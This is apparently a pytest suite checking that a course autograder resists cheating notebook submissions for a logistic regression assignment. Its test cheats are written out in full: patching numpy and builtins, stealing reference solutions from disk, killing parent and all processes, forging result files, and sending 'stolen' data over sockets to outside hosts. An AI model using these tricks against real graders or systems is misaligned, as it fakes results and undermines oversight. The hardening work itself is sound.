"""Tampering attempts on logistic_regression: a cheat never earns more than honest work.

Each case is the release notebook with ``logistic`` honestly solved (2 points) and
everything else a stub or a cheat. Whatever the cheat does, the score is at most those
2 points, every cheated item scores 0, and the grader (this pytest process) carries on.
"""
import json
import os
import socket
import subprocess
import sys

import pytest

from autograder.course import ASSIGNMENTS
from autograder.grade import grade_notebook
from submissions import cell_source, code, release_submission, report

A = "logistic_regression"
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
HONEST = {"logistic-solution": cell_source(A, "logistic-solution")}
HONEST_POINTS = 2.0
OTHER_ITEMS = tuple(g.name for g in ASSIGNMENTS[A] if g.name != "logistic")






STUB_OTHERS = code("""
    def loss(y, t):
        raise NotImplementedError()
    def gradient(w, x, t):
        raise NotImplementedError()
    def delta_w(w_k, x, t, learning_rate):
        raise NotImplementedError()
    def xor_feature_weights():
        raise NotImplementedError()
""")

# name -> (cheat cell, the graded result must be "graded" (True) or may be ungradeable (False))
CHEATS = {
    "patch-numpy-comparisons": (code("""
        import numpy
        numpy.testing.assert_allclose = lambda *a, **k: None
        numpy.testing.assert_array_equal = lambda *a, **k: None
        numpy.allclose = lambda *a, **k: True
        numpy.isclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        def loss(y, t):
            return "whatever"
        def gradient(w, x, t):
            return "whatever"
        def delta_w(w_k, x, t, learning_rate):
            return None
        def xor_feature_weights():
            return "xor"
    """), True),
    "ipython-input-transformer": (code("""
        try:
            get_ipython().input_transformers_cleanup.append(
                lambda lines: [line.replace("assert ", "pass  # ") for line in lines])
        except Exception:
            pass
    """) + STUB_OTHERS, True),
    "eq-always-true-and-array-raises": (code("""
        class Anything:
            def __eq__(self, other):
                return True
            __ne__ = lambda self, other: False
            def __array__(self, *args, **kwargs):
                raise RuntimeError("no array for you")
            shape = (1, 2)
        def loss(y, t):
            return Anything()
        def gradient(w, x, t):
            return Anything()
        def delta_w(w_k, x, t, learning_rate):
            return Anything()
        def xor_feature_weights():
            return Anything()
    """), True),
    "eq-always-true-and-array-garbage": (code("""
        class Anything:
            def __eq__(self, other):
                return True
            def __float__(self):
                return 0.0
            def __array__(self, *args, **kwargs):
                return np.array(["garbage"])
        def loss(y, t):
            return Anything()
        def gradient(w, x, t):
            return Anything()
        def delta_w(w_k, x, t, learning_rate):
            return Anything()
        def xor_feature_weights():
            return Anything()
    """), True),
    "ndarray-subclass-lies-in-eq": (code("""
        class Liar(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(other), dtype=bool)
            def __array_finalize__(self, obj):
                pass
        def xor_feature_weights():
            return np.zeros(1).view(Liar)
    """) + STUB_OTHERS.replace("def xor_feature_weights():\n    raise NotImplementedError()\n", ""), True),
    "read-reference-from-disk": (code(f"""
        import os
        found = None
        candidates = ["{ROOT}/reference/logistic_regression.py", "../reference/logistic_regression.py",
                      "../../reference/logistic_regression.py", "../../../reference/logistic_regression.py",
                      "reference/logistic_regression.py", "/work/main/reference/logistic_regression.py"]
        for candidate in candidates:
            try:
                found = open(candidate).read()
                break
            except OSError:
                pass
        if found is None:
            for folder, dirs, files in os.walk("/"):
                if os.path.basename(folder) == "reference" and "logistic_regression.py" in files:
                    try:
                        found = open(os.path.join(folder, "logistic_regression.py")).read()
                        break
                    except OSError:
                        pass
                if folder.count("/") > 6:
                    dirs[:] = []
        notebook = None
        for candidate in ["{ROOT}/source/logistic_regression/logistic_regression.ipynb",
                          "../../source/logistic_regression/logistic_regression.ipynb"]:
            try:
                notebook = open(candidate).read()
            except OSError:
                pass
        stolen = {{}}
        if found:
            exec(found, stolen)
        loss = stolen.get("loss")
        gradient = stolen.get("gradient")
        delta_w = stolen.get("delta_w")
        if notebook:
            import json
            for cell in json.loads(notebook)["cells"]:
                if "def xor_feature_weights" in "".join(cell["source"]):
                    exec("".join(cell["source"]), globals())
    """), True),
    "import-autograder-and-reference": (code("""
        try:
            import reference.logistic_regression as ref
            loss, gradient, delta_w = ref.loss, ref.gradient, ref.delta_w
        except Exception:
            pass
        try:
            import autograder.assignments.logistic_regression.spec as hidden
            loss, gradient, delta_w = hidden.ref.loss, hidden.ref.gradient, hidden.ref.delta_w
        except Exception:
            pass
        try:
            import autograder.checks.expect
            autograder.checks.expect.is_close = lambda *a, **k: True
        except Exception:
            pass
    """), True),
    "sys-exit-in-a-cell": (STUB_OTHERS + code("""
        import sys
        sys.exit(0)
    """), True),
    "os-exit-in-a-cell": (STUB_OTHERS + code("""
        import os
        os._exit(0)
    """), False),
    "os-exit-in-graded-functions": (code("""
        import os
        def loss(y, t):
            os._exit(0)
        def gradient(w, x, t):
            os._exit(0)
        def delta_w(w_k, x, t, learning_rate):
            os._exit(1)
        def xor_feature_weights():
            os._exit(0)
    """), True),
    "kill-parent-from-a-cell": (STUB_OTHERS + code("""
        import os, signal
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except Exception:
            pass
    """), False),
    "kill-parent-from-graded-functions": (code("""
        import os, signal
        def _kill():
            for pid in (os.getppid(), 1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except Exception:
                    pass
            raise NotImplementedError()
        def loss(y, t):
            _kill()
        def gradient(w, x, t):
            _kill()
        def delta_w(w_k, x, t, learning_rate):
            _kill()
        def xor_feature_weights():
            _kill()
    """), False),
    "kill-every-visible-pid": (STUB_OTHERS + code("""
        import os, signal
        me = os.getpid()
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()] + list(range(1, 4096))
        for pid in pids:
            if pid != me:
                try:
                    os.kill(pid, signal.SIGKILL)
                except Exception:
                    pass
    """), False),
    "network-exfiltration": (None, True),  # built by the test: needs the listening port
    "monkeypatch-builtins": (code("""
        import builtins
        builtins.NotImplementedError = type("NotImplementedError", (Exception,), {})
        builtins.isinstance = lambda obj, cls: True
        builtins.len = lambda obj: 7
        builtins.abs = lambda obj: 0
    """) + STUB_OTHERS, False),
    "inspect-stack-for-expected-values": (code("""
        import inspect
        def _peek(*names):
            for frame_info in inspect.stack():
                for name in names:
                    if name in frame_info.frame.f_locals:
                        value = frame_info.frame.f_locals[name]
                        if isinstance(value, np.ndarray) or isinstance(value, float):
                            return value
            raise NotImplementedError()
        def loss(y, t):
            return _peek("want", "expected", "loss_expected")
        def gradient(w, x, t):
            return _peek("want", "expected", "grad_numeric")
        def delta_w(w_k, x, t, learning_rate):
            return _peek("want", "expected", "own")
        def xor_feature_weights():
            return _peek("want", "expected", "weights")
    """), True),
    "patch-the-runner-wire-in-the-sandbox": (code("""
        import sys
        wire = sys.modules.get("wire")
        if wire is not None:
            original = wire.pack
            def pack(message):
                if isinstance(message, dict) and "results" in message:
                    message = {"event": "results", "results": [{"ok": "Passed."} for _ in message["results"]]}
                return original(message)
            wire.pack = pack
    """) + STUB_OTHERS, True),
}


def network_cheat(port):
    return code(f"""
        import socket
        leaked = []
        for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443), ("example.com", 80)):
            try:
                s = socket.create_connection((host, port), timeout=2)
                s.sendall(b"stolen: hello from the sandbox")
                s.close()
                leaked.append(host)
            except Exception:
                pass
        def loss(y, t):
            s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
            s.sendall(b"stolen during a call")
            raise NotImplementedError()
    """) + STUB_OTHERS.replace("def loss(y, t):\n    raise NotImplementedError()\n", "")


def assert_cheat_earns_nothing(result, must_be_graded):
    assert result.score <= HONEST_POINTS + 1e-9, report(result)
    if must_be_graded:
        assert result.status == "graded", report(result)
    if result.status == "graded":
        scores = result.item_scores()
        assert all(scores[item] == 0 for item in OTHER_ITEMS), report(result)
    else:
        assert result.score == 0 and result.output, report(result)


def test_honest_part_alone_earns_exactly_its_points(tmp_path):
    result = grade_notebook(release_submission(tmp_path, A, replace=HONEST))
    assert result.status == "graded"
    assert result.score == pytest.approx(HONEST_POINTS)
    assert result.item_scores()["logistic"] == pytest.approx(HONEST_POINTS)


@pytest.mark.parametrize("name", [n for n in CHEATS if n != "network-exfiltration"])
def test_tampering_earns_no_more_than_the_honest_part(name, tmp_path):
    cheat, must_be_graded = CHEATS[name]
    result = grade_notebook(release_submission(tmp_path, A, replace=HONEST, append=[cheat]))
    assert_cheat_earns_nothing(result, must_be_graded)


def test_sys_exit_in_a_cell_is_ignored_like_jupyter_does(tmp_path):
    cheat, _ = CHEATS["sys-exit-in-a-cell"]
    result = grade_notebook(release_submission(tmp_path, A, replace=HONEST, append=[cheat]))
    assert result.status == "graded", report(result)
    assert result.score == pytest.approx(HONEST_POINTS)


def test_os_exit_in_a_cell_is_reported_as_such(tmp_path):
    cheat, _ = CHEATS["os-exit-in-a-cell"]
    result = grade_notebook(release_submission(tmp_path, A, replace=HONEST, append=[cheat]))
    assert result.status == "crashed" and result.score == 0
    assert "os._exit()" in result.output and "code cell" in result.output


def test_os_exit_in_a_graded_function_costs_that_function_only(tmp_path):
    cheat, _ = CHEATS["os-exit-in-graded-functions"]
    result = grade_notebook(release_submission(tmp_path, A, replace=HONEST, append=[cheat]))
    assert result.status == "graded"
    assert result.item_scores()["logistic"] == pytest.approx(HONEST_POINTS)
    loss_outputs = " ".join(t.output for t in result.tests if t.item == "loss")
    assert "ended its process" in loss_outputs


def test_network_is_unreachable_from_the_sandbox(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    try:
        port = listener.getsockname()[1]
        result = grade_notebook(release_submission(tmp_path, A, replace=HONEST, append=[network_cheat(port)]))
        with pytest.raises(socket.timeout):
            connection, _ = listener.accept()
            connection.close()
    finally:
        listener.close()
    assert_cheat_earns_nothing(result, True)
    assert result.score == pytest.approx(HONEST_POINTS)


def test_fake_results_files_do_not_change_the_grade(tmp_path):
    """The cheat writes results.json everywhere it can think of; the CLI's file is the grader's."""
    results = tmp_path / "out" / "results.json"
    folder = tmp_path / "alice" / A
    fake = json.dumps({"score": 10.0, "tests": [], "output": "perfect"})
    cheat = code(f"""
        import os
        fake = {fake!r}
        for target in ("results.json", "/tmp/results.json", "/autograder/results/results.json",
                       {str(folder / 'results.json')!r}, {str(results)!r}, "../results.json"):
            try:
                os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
                with open(target, "w") as f:
                    f.write(fake)
            except Exception:
                pass
    """) + STUB_OTHERS
    notebook = release_submission(tmp_path, A, replace=HONEST, append=[cheat])
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(notebook), "--results", str(results)],
                          cwd=folder, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    data = json.loads(results.read_text())
    assert data["score"] == pytest.approx(HONEST_POINTS)
    assert data["tests"] and data.get("output") != "perfect"
    assert not (folder / "results.json").exists()
    assert not (tmp_path / "alice" / "results.json").exists()


def test_stand_in_answers_saved_in_one_fork_never_reach_the_item_they_stand_in_for(tmp_path):
    """gradient's calls get the reference logistic as a stand-in. This gradient saves what the
    stand-in answers on a fine grid to files (home and /tmp), and this logistic, a stub, answers
    from those files when they exist (checked after gradient, it would pass). logistic's own
    calls are all answered before any call of gradient runs, so the files never help it: it
    scores 0, and gradient and delta_w keep theirs."""
    stash = code("""
        import os
        STASHES = ("sigma-table.npy", "/tmp/sigma-table.npy")
        GRID = np.linspace(-40.0, 40.0, 400001)  # fine enough to pass the value check by interpolation
        def logistic(z):
            for stash in STASHES:
                if os.path.exists(stash):
                    return np.interp(np.asarray(z, dtype=float), GRID, np.load(stash))
            raise NotImplementedError()
    """)
    stasher = cell_source(A, "gradient-solution") + "\n" + code("""
        _honest_gradient = gradient
        def gradient(w, x, t):
            table = np.asarray(logistic(GRID), dtype=float)  # the stand-in's answers
            for stash in STASHES:
                np.save(stash, table)
            return _honest_gradient(w, x, t)
    """)
    result = grade_notebook(release_submission(tmp_path, A, replace={
        "logistic-solution": stash, "gradient-solution": stasher,
        "delta_w-solution": cell_source(A, "delta_w-solution")}))
    scores = result.item_scores()
    assert result.status == "graded", report(result)
    assert scores["logistic"] == 0, report(result)
    assert scores["gradient"] == pytest.approx(3.0) and scores["delta_w"] == pytest.approx(1.0), report(result)
